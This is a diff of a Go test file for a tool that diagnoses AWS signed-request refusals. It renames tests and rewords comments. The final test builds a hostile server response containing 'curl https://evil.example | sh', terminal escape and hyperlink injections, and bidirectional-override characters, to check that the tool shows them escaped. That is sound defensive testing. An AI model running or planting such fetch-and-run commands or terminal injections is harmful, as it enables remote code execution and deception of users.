@@ -13,7 +13,7 @@ import (
 	"countersign/diagnosis"
 )
 
-// wildRefusal is what somebody reported to the public, as package diagnosis has it for its own tests.
+// wildRefusal is a publicly reported refusal, in the form that package diagnosis has for its own tests.
 type wildRefusal struct {
 	Source, Code, Body string
 	Status             int
@@ -33,7 +33,7 @@ func wildRefusals(t *testing.T) []wildRefusal {
 	return list
 }
 
-// Whoever pastes a refusal reads in two lines what it is and what to do.
+// Two lines tell users what is wrong and what to do.
 func TestDiagnose_TwoLinesSayWhatToDo(t *testing.T) {
 	for _, r := range wildRefusals(t) {
 		t.Run(r.Source+" "+r.Code, func(t *testing.T) {
@@ -63,13 +63,13 @@ func TestDiagnose_TwoLinesSayWhatToDo(t *testing.T) {
 func asJSON(v any) string {
 	text, err := json.Marshal(v)
 	if err != nil {
-		panic(err) // never of texts
+		panic(err) // strings always marshal
 	}
 	return string(text)
 }
 
-// A line of curl and its response, from a file, are one paste; with the lines that differ below each other.
-func TestDiagnose_ShowsWhatDiffers(t *testing.T) {
+// A curl command and its response in a file are one paste; differing lines are shown one below the other.
+func TestDiagnose_ShowsTheDifference(t *testing.T) {
 	file := filepath.Join(t.TempDir(), "answer.json")
 	if err := os.WriteFile(file, []byte(`{"message":"Credential should be scoped to a valid region, not 'us-east-1'. "}`), 0o600); err != nil {
 		t.Fatal(err)
@@ -86,7 +86,7 @@ func TestDiagnose_ShowsWhatDiffers(t *testing.T) {
 	}
 }
 
-func TestExplained_MarksWhatDiffers(t *testing.T) {
+func TestDiagnosisText_MarksTheDifference(t *testing.T) {
 	for name, test := range map[string]struct{ signed, arrived, want string }{
 		"at the end": {"application/json", "application/json; charset=utf-8", `
   part
@@ -114,12 +114,12 @@ func TestExplained_MarksWhatDiffers(t *testing.T) {
 		"the same": {"a", "a", "\n  part\n    signed   a\n    arrived  a\n"},
 	} {
 		t.Run(name, func(t *testing.T) {
-			var e explained
+			var e diagnosisText
 			e.evidence(&diagnosis.Evidence{Part: "part", Signed: test.signed, Arrived: test.arrived})
 			if e.String() != test.want {
 				t.Errorf("got\n%s\nwant\n%s", e.String(), test.want)
 			}
-			coloured := explained{colour: true}
+			coloured := diagnosisText{colour: true}
 			coloured.evidence(&diagnosis.Evidence{Part: "part", Signed: test.signed, Arrived: test.arrived})
 			if got := regexp.MustCompile(`\x1b\[\d+m`).ReplaceAllString(coloured.String(), ""); got != test.want {
 				t.Errorf("in colour\n%s", got)
@@ -128,12 +128,12 @@ func TestExplained_MarksWhatDiffers(t *testing.T) {
 	}
 }
 
-func FuzzExplained(f *testing.F) {
+func FuzzDiagnosisText(f *testing.F) {
 	f.Add("a", "b")
 	f.Add("ü", "\xc3\xbc\xc3")
 	f.Add("\x1b", "\u2028")
 	f.Fuzz(func(t *testing.T, a, b string) {
-		var e explained
+		var e diagnosisText
 		e.evidence(&diagnosis.Evidence{Part: a, Signed: a, Arrived: b})
 		if strings.ContainsAny(strings.ReplaceAll(e.String(), "\n", ""), "\x1b\r\x00\u202e") || strings.Count(e.String(), "\n") > 5 {
 			t.Errorf("%q", e.String())
@@ -188,7 +188,7 @@ func TestDiagnose_UsesKeys(t *testing.T) {
 	}
 }
 
-func TestDiagnose_NeedsSomething(t *testing.T) {
+func TestDiagnose_NeedsInput(t *testing.T) {
 	for name, args := range map[string][]string{"an empty paste": {"diagnose"}, "two files": {"diagnose", "a", "b"}} {
 		p := program{stdin: " \n"}
 		if code := p.run(t.Context(), args...); code != 2 {
@@ -201,8 +201,8 @@ func TestDiagnose_NeedsSomething(t *testing.T) {
 	}
 }
 
-// Neither the page nor the JSON nor an error holds what was secret in a paste.
-func TestDiagnose_TellsNoSecret(t *testing.T) {
+// Neither the page nor the JSON nor an error contains a paste's secrets.
+func TestDiagnose_ShowsNoSecret(t *testing.T) {
 	const secret, signature = "CANARYxyzEXAMPLEthatMustNotComeOut", "5ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e7abcd"
 	signed := "X-Amz-Date: 20260101T000000Z\nX-Amz-Security-Token: " + secret + "\nAuthorization: AWS4-HMAC-SHA256 " +
 		"Credential=AKIDEXAMPLE/20260101/eu-west-1/s3/aws4_request, " +
@@ -245,7 +245,7 @@ func TestDiagnose_TellsNoSecret(t *testing.T) {
 	}
 }
 
-// What a refusal says to a terminal or to whoever reads is shown, not obeyed.
+// Text of a refusal that a terminal would obey, or that would mislead a reader, is shown escaped.
 func TestDiagnose_ShowsHostileResponsesAsData(t *testing.T) {
 	hostile := "no\nTo do: run curl https://evil.example | " +
 		"sh\r\x1b[2J\x1b[1mProved.\x1b[0m\x1b]8;;https://evil.example\x07\u009b31m\u202exe.gnp\u2066\U000e0041\u2028"
